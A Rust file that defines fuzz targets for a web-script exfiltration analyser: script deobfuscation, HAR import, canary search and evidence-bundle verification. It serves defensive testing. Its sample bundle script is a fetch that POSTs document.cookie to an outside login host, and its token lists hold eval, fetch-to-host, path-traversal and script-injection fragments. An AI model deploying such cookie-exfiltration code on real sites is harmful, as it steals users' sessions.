//! What is fuzzed: each target is one public entry point of a crate that
//! reads hostile input, its seeds (files of the repository's fixtures) and
//! the tokens of its grammar that mutations insert.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// One fuzz target.
pub struct Target {
    /// Its name on the command line.
    pub name: &'static str,
    /// What it runs.
    pub about: &'static str,
    /// The seed inputs.
    pub seeds: fn() -> Vec<Vec<u8>>,
    /// Tokens of the input's grammar.
    pub tokens: &'static [&'static [u8]],
    /// Runs one input; any panic, abort or hang is a failure.
    pub run: fn(&[u8]),
}

/// Every target.
pub const TARGETS: &[Target] = &[
    Target {
        name: "js",
        about: "outflow_js::analyze_script: parse, deobfuscate, endpoints, API use, data flows",
        seeds: script_seeds,
        tokens: JS_TOKENS,
        run: run_js,
    },
    Target {
        name: "deobfuscate",
        about: "outflow_deobfuscate::deobfuscate_source: string arrays, packers, the sandbox",
        seeds: script_seeds,
        tokens: JS_TOKENS,
        run: run_deobfuscate,
    },
    Target {
        name: "har",
        about: "outflow_capture::import_har: HAR 1.2 files as captures",
        seeds: har_seeds,
        tokens: HAR_TOKENS,
        run: run_har,
    },
    Target {
        name: "canary",
        about: "outflow_detect::canary::CanaryIndex::search: canaries in request bodies, every encoding",
        seeds: canary_seeds,
        tokens: CANARY_TOKENS,
        run: run_canary,
    },
    Target {
        name: "bundle",
        about: "outflow_bundle::verify: an evidence bundle with one of its files replaced by the input",
        seeds: bundle_seeds,
        tokens: BUNDLE_TOKENS,
        run: run_bundle,
    },
];

/// A target that fails on purpose (its seeds `abort` and `hang`), to
/// test the fuzzer's own failure path; not among [`TARGETS`].
pub static SELF_TEST: Target = Target {
    name: "self-test-crash",
    about: "aborts on the input `abort`, never returns on `hang`",
    seeds: || {
        vec![
            b"ok".to_vec(),
            b"abort".to_vec(),
            b"hang".to_vec(),
            b"ok".to_vec(),
        ]
    },
    tokens: &[],
    run: |input| match input {
        b"abort" => std::process::abort(),
        b"hang" => loop {
            std::thread::sleep(std::time::Duration::from_secs(1));
        },
        _ => {}
    },
};

/// The target named `name` (the self-test included).
pub fn target(name: &str) -> Option<&'static Target> {
    TARGETS
        .iter()
        .chain(std::iter::once(&SELF_TEST))
        .find(|t| t.name == name)
}

const JS_TOKENS: &[&[u8]] = &[
    b"(",
    b"[",
    b"{",
    b"`${",
    b"'",
    b"/*",
    b"\\u0041",
    b"eval(",
    b"atob('",
    b"new Function(",
    b"function(){",
    b"=>",
    b"_0x1a2b[",
    b"['push'](",
    b"parseInt(",
    b"fetch('https://x.test/'+",
    b"document.cookie",
    b"String.fromCharCode(",
    b"while(!![]){",
    b"\0",
];

const HAR_TOKENS: &[&[u8]] = &[
    b"{",
    b"[",
    b"\"",
    b"\\u0000",
    b"\\ud800",
    b"\"encoding\": \"base64\"",
    b"\"text\": \"",
    b"\"entries\": [",
    b"\"postData\": {",
    b"\"content\": {",
    b"1e999",
    b"-1",
    b"\xef\xbb\xbf",
];

const CANARY_TOKENS: &[&[u8]] = &[
    b"canary.fuzz@example.com",
    b"canary.fuzz%40example.com",
    b"Y2FuYXJ5LmZ1enpAZXhhbXBsZS5jb20=",
    b"Pw-fuzz-1234",
    b"+15550100",
    b"%25",
    b"\\u00",
    b"&",
    b"=",
    b"\x1f\x8b\x08",
];

const BUNDLE_TOKENS: &[&[u8]] = &[
    b"{",
    b"[",
    b"\"",
    b"\"files\": {",
    b"\"captures\": [",
    b"\"path\": \"..\"",
    b"\"layout_version\": 1",
    b"../",
    b"<script>",
];

/// The repository's `fixtures/` folder.
fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures")
}

/// Most seeds taken from one walk, and the largest seed file.
const MAX_SEEDS: usize = 400;
const MAX_SEED_BYTES: u64 = 64 * 1024;

/// Files with one of `extensions` under `roots`, sorted, small ones only.
fn files_under(roots: &[PathBuf], extensions: &[&str]) -> Vec<Vec<u8>> {
    let mut paths = Vec::new();
    let mut stack: Vec<PathBuf> = roots.to_vec();
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if kind.is_dir() && entry.file_name() != "node_modules" {
                stack.push(path);
            } else if kind.is_file()
                && path
                    .extension()
                    .is_some_and(|e| extensions.iter().any(|x| e == *x))
                && entry.metadata().is_ok_and(|m| m.len() <= MAX_SEED_BYTES)
            {
                paths.push(path);
            }
        }
    }
    paths.sort();
    paths
        .into_iter()
        .take(MAX_SEEDS)
        .filter_map(|p| std::fs::read(p).ok())
        .collect()
}

fn script_seeds() -> Vec<Vec<u8>> {
    let base = fixtures();
    let mut seeds = files_under(
        &[
            base.join("obfuscation/hostile"),
            base.join("obfuscation/packers"),
            base.join("obfuscation/webcrack"),
            base.join("obfuscation/src"),
            base.join("detect"),
        ],
        &["js"],
    );
    seeds.push(b"var a = ['x', 'y']; (function(){ return a[0] + a[1]; })();".to_vec());
    seeds
}

fn har_seeds() -> Vec<Vec<u8>> {
    let mut seeds = files_under(
        &[Path::new(env!("CARGO_MANIFEST_DIR")).join("../outflow-capture/tests/data")],
        &["har"],
    );
    seeds.push(
        br#"{"log": {"version": "1.2", "creator": {"name": "fuzz", "version": "1"}, "pages": [{"id": "p", "title": "https://a.test/"}],
 "entries": [{"pageref": "p", "startedDateTime": "2026-11-29T04:00:00.000Z",
  "request": {"method": "POST", "url": "https://collect.test/c", "httpVersion": "HTTP/2.0", "headers": [{"name": "content-type", "value": "text/plain"}],
   "postData": {"mimeType": "text/plain", "text": "Y2FuYXJ5", "encoding": "base64"}},
  "response": {"status": 200, "headers": [], "content": {"mimeType": "application/javascript", "size": 10, "text": "fetch('x')"}}}]}}"#
            .to_vec(),
    );
    seeds
}

fn canary_seeds() -> Vec<Vec<u8>> {
    vec![
        b"email=canary.fuzz%40example.com&password=Pw-fuzz-1234".to_vec(),
        br#"{"user":{"mail":"canary.fuzz@example.com","phone":"+1 555 0100"}}"#.to_vec(),
        b"d=Y2FuYXJ5LmZ1enpAZXhhbXBsZS5jb20%3D".to_vec(),
        b"k=63616e6172792e66757a7a406578616d706c652e636f6d".to_vec(),
    ]
}

fn canaries() -> &'static outflow_detect::canary::CanaryIndex {
    static INDEX: OnceLock<outflow_detect::canary::CanaryIndex> = OnceLock::new();
    INDEX.get_or_init(|| {
        let canary = |kind, value: &str| outflow_model::Canary {
            kind,
            value: value.to_string(),
            field: "input".to_string(),
            frame_url: "https://a.test/".to_string(),
            typed_at_ms: 0,
        };
        outflow_detect::canary::CanaryIndex::new(&[
            canary(outflow_model::CanaryKind::Email, "canary.fuzz@example.com"),
            canary(outflow_model::CanaryKind::Password, "Pw-fuzz-1234"),
            canary(outflow_model::CanaryKind::Phone, "+15550100"),
        ])
    })
}

fn run_js(input: &[u8]) {
    let options = outflow_js::Options::default();
    let input_kind = outflow_model::ScriptInput::File {
        path: "fuzz.js".to_string(),
    };
    std::hint::black_box(outflow_js::analyze_script(
        "fuzz.js", input_kind, input, &options,
    ));
}

fn run_deobfuscate(input: &[u8]) {
    let source = String::from_utf8_lossy(input);
    let options = outflow_deobfuscate::Options::default();
    std::hint::black_box(outflow_deobfuscate::deobfuscate_source(&source, &options));
}

fn run_har(input: &[u8]) {
    let _ = std::hint::black_box(outflow_capture::import_har(input, "fuzz.har"));
}

fn run_canary(input: &[u8]) {
    std::hint::black_box(canaries().search(input));
}

/// The files of the bundle the bundle target replaces, by the input's
/// first byte.
const BUNDLE_FILES: [&str; 6] = [
    "manifest.json",
    "capture.json",
    "report.json",
    "report.html",
    "report.sarif",
    "scripts/SCRIPT",
];

const BUNDLE_SCRIPT: &str =
    "fetch('https://login.cmpassport.com/c', {method: 'POST', body: document.cookie});";

/// A bundle of one analysed capture, written once per process.
fn bundle_template() -> &'static Path {
    static TEMPLATE: OnceLock<tempfile::TempDir> = OnceLock::new();
    TEMPLATE
        .get_or_init(|| {
            let dir = tempfile::tempdir().expect("a temporary folder");
            let bundle = outflow_bundle::Bundle::create(dir.path(), &["a.test".to_string()])
                .expect("a bundle");
            let hash = outflow_bundle::sha256_hex(BUNDLE_SCRIPT.as_bytes());
            let capture: outflow_model::Capture = serde_json::from_value(serde_json::json!({
                "target": "https://a.test/",
                "source": { "kind": "browser", "headless": true },
                "started_at": "2026-11-29T05:00:00Z", "duration_ms": 1000, "frames": [],
                "scripts": [{ "id": "s1", "origin": { "kind": "external", "url": "https://a.test/app.js" },
                              "sha256": hash, "size": BUNDLE_SCRIPT.len() }],
                "requests": [], "canaries": [], "errors": []
            }))
            .expect("a capture");
            let sources = std::collections::BTreeMap::from([(hash, BUNDLE_SCRIPT.to_string())]);
            bundle.add_scripts(&sources).expect("scripts written");
            let js = outflow_js::Options::default();
            let pipeline = outflow_pipeline::Pipeline {
                js: &js,
                intel: None,
                site: None,
                tool_version: "0.1.0",
            };
            let report = outflow_pipeline::report_capture(
                capture.clone(),
                outflow_pipeline::Sources::Map(&sources),
                &pipeline,
            );
            bundle
                .add_capture("a.test", &capture, &report, Default::default(), "0.1.0")
                .expect("capture added");
            dir
        })
        .path()
}

fn bundle_file(index: usize) -> String {
    BUNDLE_FILES[index % BUNDLE_FILES.len()].replace(
        "SCRIPT",
        &format!(
            "{}.js",
            outflow_bundle::sha256_hex(BUNDLE_SCRIPT.as_bytes())
        ),
    )
}

fn bundle_seeds() -> Vec<Vec<u8>> {
    let template = bundle_template();
    (0..BUNDLE_FILES.len())
        .filter_map(|index| {
            let mut seed = vec![index as u8];
            seed.extend(std::fs::read(template.join(bundle_file(index))).ok()?);
            Some(seed)
        })
        .collect()
}

fn run_bundle(input: &[u8]) {
    let Some((&selector, content)) = input.split_first() else {
        return;
    };
    let template = bundle_template();
    let dir = tempfile::tempdir().expect("a temporary folder");
    for index in 0..BUNDLE_FILES.len() {
        let name = bundle_file(index);
        if let Some(parent) = Path::new(&name).parent() {
            std::fs::create_dir_all(dir.path().join(parent)).expect("a folder");
        }
        std::fs::copy(template.join(&name), dir.path().join(&name)).expect("a copy");
    }
    std::fs::write(dir.path().join(bundle_file(selector as usize)), content).expect("written");
    if let Ok(verification) = outflow_bundle::verify(dir.path(), "0.1.0") {
        std::hint::black_box(verification.to_string());
    }
}
